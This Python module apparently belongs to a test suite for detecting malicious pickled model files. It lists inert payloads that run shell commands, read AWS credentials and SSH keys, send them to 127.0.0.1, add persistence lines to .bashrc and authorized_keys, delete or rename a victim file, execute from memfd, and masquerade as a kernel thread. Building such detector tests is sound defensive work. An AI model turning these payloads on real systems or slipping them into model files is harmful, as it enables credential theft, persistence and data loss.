"""Payloads by what they do. All are inert: own folder, own scratch home, loopback only.

How a payload hides is the other half of the table, in `disguises`.
"""

from __future__ import annotations

import operator
import os
import stat
import subprocess
from collections.abc import Callable, Mapping
from pathlib import Path

from .behaviour import Behaviour
from .disguises import DISGUISED
from .payloads import (
    BIND,
    CHMOD,
    CONNECT,
    CONNECTION,
    MASQUERADE,
    MEMFD,
    MPROTECT,
    PYTHON_CHILD,
    RWX,
    SEND_UDP,
    append,
    delayed,
    detached,
    drop_and_dlopen,
    read,
)
from .pickles import (
    LOAD,
    LOAD_AND_TELL,
    Call,
    arrived,
    exists,
    gone,
    holds,
    model,
    pickled,
    said,
    source,
)

__all__ = ["MALICIOUS"]

_LOAD_AND_SHOW_MAPS = LOAD + "\nprint(open('/proc/self/maps').read())\n"


def _payload(
    name: str,
    shows: str,
    notes: object,
    fired: Callable[[Path], bool],
    loader: str = LOAD,
    after: float = 0.0,
    beside: Mapping[str, str] | None = None,
) -> Behaviour:
    make = pickled(model(notes), beside=beside)
    return Behaviour(name, True, shows, loader, make, fired=fired, after=after)


MALICIOUS: tuple[Behaviour, ...] = (
    _payload(
        "os_system",
        "clone and execve of sh, which writes a file",
        Call(os.system, "echo hello > fired"),
        exists("fired"),
    ),
    _payload(
        "subprocess_run",
        "vfork and execve of touch, without a shell",
        Call(subprocess.run, ["touch", "fired"]),
        exists("fired"),
    ),
    _payload(
        "python_child",
        "execve of the same Python with -c",
        source(PYTHON_CHILD),
        exists("fired"),
    ),
    _payload(
        "exec_source",
        "a file created and written by the loading thread: seven system calls",
        source("with open('fired', 'w') as file: file.write('hello')"),
        exists("fired"),
    ),
    _payload(
        "execvp",
        "execve without a fork: the loading process becomes touch",
        Call(os.execvp, "touch", ["touch", "fired"]),
        exists("fired"),
    ),
    _payload(
        "reverse_connection",
        "socket, connect to 127.0.0.1, sendto, after the import of socket; no source code executed",
        Call(operator.methodcaller("sendall", b"hello"), CONNECTION),
        arrived("tcp hello"),
    ),
    _payload(
        "udp_send",
        "one datagram: socket and sendto to 127.0.0.1",
        source(SEND_UDP),
        arrived("udp hello"),
    ),
    _payload(
        "bind_listen",
        "socket, bind to 127.0.0.1, listen",
        source(BIND),
        said("listened on 127.0.0.1"),
        loader=LOAD_AND_TELL,
    ),
    _payload(
        "read_aws_credentials",
        "~/.aws/credentials opened and read, nothing else",
        read("~/.aws/credentials"),
        said("FAKE-ACCESS-KEY"),
        loader=LOAD_AND_TELL,
    ),
    _payload(
        "read_ssh_key",
        "~/.ssh/id_rsa opened and read, nothing else",
        read("~/.ssh/id_rsa"),
        said("FAKE-PRIVATE-KEY"),
        loader=LOAD_AND_TELL,
    ),
    _payload(
        "steal_credentials",
        "~/.aws/credentials read, then connect to 127.0.0.1 and sendto",
        Call(
            operator.methodcaller("sendall", Call(str.encode, read("~/.aws/credentials"))),
            CONNECTION,
        ),
        arrived("tcp [default]"),
    ),
    _payload(
        "bashrc_append",
        "~/.bashrc opened for appending and written",
        append("~/.bashrc", b"# a line of the payload\n"),
        holds("home/.bashrc", "of the payload"),
    ),
    _payload(
        "authorized_keys",
        "~/.ssh/authorized_keys opened for appending and written",
        append("~/.ssh/authorized_keys", b"# no key of the payload\n"),
        holds("home/.ssh/authorized_keys", "of the payload"),
    ),
    Behaviour(
        name="drop_and_dlopen",
        malicious=True,
        shows="a shared object written to the working directory, then mapped executable",
        loader=_LOAD_AND_SHOW_MAPS,
        make=drop_and_dlopen,
        fired=said("libdropped.so"),
    ),
    _payload(
        "memfd_execve",
        "memfd_create, write, fork, execve of /proc/self/fd/N",
        source(MEMFD),
        exists("fired"),
    ),
    _payload(
        "detached_write",
        "fork, setsid, fork; the orphan writes a file a second after the load",
        source(detached("open('fired', 'w').close()")),
        exists("fired"),
    ),
    _payload(
        "detached_connect",
        "fork, setsid, fork; the orphan connects to 127.0.0.1 a second after the load",
        source(detached(CONNECT)),
        arrived("tcp hello"),
    ),
    _payload(
        "delayed_thread_exec",
        "clone of a thread that executes touch 0.7 s after the load",
        source(delayed("import subprocess\nsubprocess.run(['touch', 'fired'])")),
        exists("fired"),
        after=1.5,
    ),
    _payload(
        "delayed_thread_connect",
        "clone of a thread that connects to 127.0.0.1 0.7 s after the load",
        source(delayed(CONNECT)),
        arrived("tcp hello"),
        after=1.5,
    ),
    _payload(
        "unlink",
        "unlink of a file beside the model",
        Call(os.unlink, "victim.txt"),
        gone("victim.txt"),
        beside={"victim.txt": "results of a long day"},
    ),
    _payload(
        "rename",
        "rename of a file beside the model",
        Call(os.rename, "victim.txt", "victim.txt.locked"),
        exists("victim.txt.locked"),
        beside={"victim.txt": "results of a long day"},
    ),
    _payload(
        "symlink",
        "symlink in the scratch home to a file beside the model",
        Call(os.symlink, "../victim.txt", Call(os.path.expanduser, "~/.profile")),
        exists("home/.profile"),
        beside={"victim.txt": "not a profile"},
    ),
    _payload(
        "drop_and_chmod",
        "a script written to the working directory and made executable",
        source(CHMOD),
        lambda folder: (
            os.access(folder / "dropped.sh", os.F_OK)
            and bool((folder / "dropped.sh").stat().st_mode & stat.S_IXUSR)
        ),
    ),
    _payload(
        "mmap_rwx",
        "one anonymous mmap, readable, writable and executable, after the import of mmap",
        RWX,
        said("rwxp"),
        loader=_LOAD_AND_SHOW_MAPS,
    ),
    _payload(
        "mprotect_exec",
        "anonymous memory written, then made executable by mprotect",
        source(MPROTECT),
        said("mprotect gave 0"),
        loader=LOAD_AND_TELL,
    ),
    _payload(
        "masquerade",
        "prctl(PR_SET_NAME): the loading process takes a kernel thread's name",
        source(MASQUERADE),
        said("kworker"),
        loader=LOAD + "\nprint(open('/proc/self/comm').read())\n",
    ),
    *DISGUISED,
)
